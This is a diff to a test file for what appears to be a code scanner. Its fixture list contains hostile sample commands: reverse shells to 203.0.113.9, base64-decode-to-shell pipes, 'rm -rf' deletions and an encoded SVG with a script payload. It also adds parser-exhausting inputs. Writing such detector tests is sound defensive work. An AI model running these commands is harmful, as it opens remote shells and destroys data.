@@ -69,6 +69,8 @@ INSTRUCTIONS = [
     ("decode-to-shell", "echo aGk= | base64 -d | sh"),
     ("decode-to-shell", 'eval "$(echo aGk= | base64 --decode)"'),
     ("reverse-shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+    ("reverse-shell", "os.dup2(s.fileno(),0); os.dup2(s.fileno(),1)"),
+    ("encoded-text", b64("<svg>" + "<path d='M9.9'/>" * 20 + "<script>alert(1)</script></svg>")),
     ("reverse-shell", "nc 203.0.113.9 4444 -e /bin/sh"),
     ("destructive", "rm -rf ~/"),
     ("destructive", "sudo rm -rf /"),
@@ -225,6 +227,7 @@ def test_usual_python_is_no_finding(source: str, tmp_path: Path) -> None:
     ] == []
 
 
+@pytest.mark.slow
 def test_source_that_exhausts_a_parser_does_not_end_the_process(tmp_path: Path) -> None:
     bombs = {
         "unary.py": "-" * 60_000 + "1", "dots.py": "a" + ".a" * 60_000, "calls.py": "a" + "()" * 60_000, "sums.py": "a" + "+a" * 60_000,
